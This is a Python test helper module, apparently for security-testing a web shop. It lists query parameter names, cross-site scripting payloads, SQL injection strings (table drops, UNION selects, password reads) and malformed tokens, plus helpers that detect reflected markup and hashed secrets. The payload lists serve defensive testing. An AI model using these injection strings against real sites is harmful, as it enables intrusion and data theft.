"""What hostile people send: markup, statements, tokens that are none; and how to see what came of it."""

import base64
import hashlib
from typing import Any
from urllib.parse import quote

PARAMETERS = (
    "q", "sort", "size", "after", "before", "page", "at", "all", "status", "kind", "language", "consent", "id",
    "customer", "order", "items_from", "total_from", "total_to", "currency", "created_from", "created_to", "shipping",
    "online", "bots", "shop", "source", "payment", "state", "campaign", "days", "what", "day", "step", "arm", "bought",
    "voucher", "sku", "next", "stock", "back", "fewer", "missing", "registered_from", "origin", "placed_from",
)  # fmt: skip
"""The names that some page reads from its address."""

# A dot: no token that a page holds can end like it.
MARKUP = "zz.zz\"'><img src=x onerror=alert(1)><script>alert(2)</script>"

STATEMENTS = (
    "'", '"', "\\", "1' OR '1'='1", "1; DROP TABLE carts_cart--", "1) UNION SELECT NULL, NULL--", "id DESC, (SELECT 1)",
    "-id;--", "1 AND pg_sleep(9)", "%' AND 1=1 --", "' || (SELECT password FROM backoffice_user) || '", "{0}", "%(id)s",
    "\x00'",
)  # fmt: skip

SCRIPTS = (
    "<script data-hurt>alert(1)</script>",
    '"><img data-hurt src=x onerror=alert(1)>',
    "'><svg data-hurt onload=alert(1)>",
    "</title></textarea></script><b data-hurt onmouseover=alert(1)>zz</b>",
    '<iframe data-hurt srcdoc="<script>alert(1)</script>"></iframe>',
    '<a data-hurt href="javascript:alert(1)">zz</a>',
    "<details data-hurt open ontoggle=alert(1)>",
    "<input data-hurt autofocus onfocus=alert(1)>",
    '" data-hurt=1 onfocus=alert(1) autofocus x="',
    "' data-hurt=1 onclick=alert(1) x='",
    " data-hurt=1 onclick=alert(1) ",
    "<style data-hurt>*{display:none}</style>",
    '<base data-hurt href="//evil.invalid/">',
    "<form data-hurt action=//evil.invalid><button>zz",
    '<math data-hurt><mi xlink:href="javascript:alert(1)">',
    '<object data-hurt data="javascript:alert(1)">',
    "<meta data-hurt http-equiv=refresh content=0;url=//evil.invalid>",
    "<link data-hurt rel=stylesheet href=//evil.invalid>",
    "<!--><b data-hurt>-->",
    "]]><b data-hurt>",
    "&lt;b data-hurt&gt;",
    "&#60;b data-hurt&#62;",
    "%3Cb data-hurt%3E",
    "\\u003cb data-hurt\\u003e",
    "\u202e<b data-hurt>",
    "javascript:alert(1)//",
    '{{constructor.constructor("alert(1)")()}}',
    "${alert(1)}",
    "__proto__",
    "constructor",
)
"""What would run, or at least be seen as `[data-hurt]`, if it were markup."""

NO_TOKENS = (
    "", "0", "-1", "true", "null", "None", "undefined", "[]", "{}", "%00", "x" * 43, "A" * 43, "é" * 43, "../" * 9,
    "' OR 1=1 --", "*", "%25", "A" * 100_000,
)  # fmt: skip


def told_of(name: str, value: str) -> str:
    return f"{name}={quote(value, safe='')}"


def everywhere(value: str) -> str:
    """A query that gives this to every name."""
    return "?" + "&".join(told_of(name, value) for name in PARAMETERS)


def comes_back(text: str) -> bool:
    """Whether MARKUP stands in a page as markup."""
    return "<img src=x" in text or "<script>alert" in text or 'zz.zz"' in text


def text_of(answer: Any) -> str:
    body = b"".join(answer.streaming_content) if answer.streaming else answer.content
    return str(body.decode("utf-8", "replace"))


def forms_of(secret: str) -> list[str]:
    """A secret as it is, and as it is often hidden."""
    raw = secret.encode()
    digests = [hashlib.new(name, raw).hexdigest() for name in ("md5", "sha1", "sha256")]
    return [secret, *digests, raw.hex(), base64.b64encode(raw).decode().rstrip("="),
            base64.urlsafe_b64encode(raw).decode().rstrip("=")]  # fmt: skip
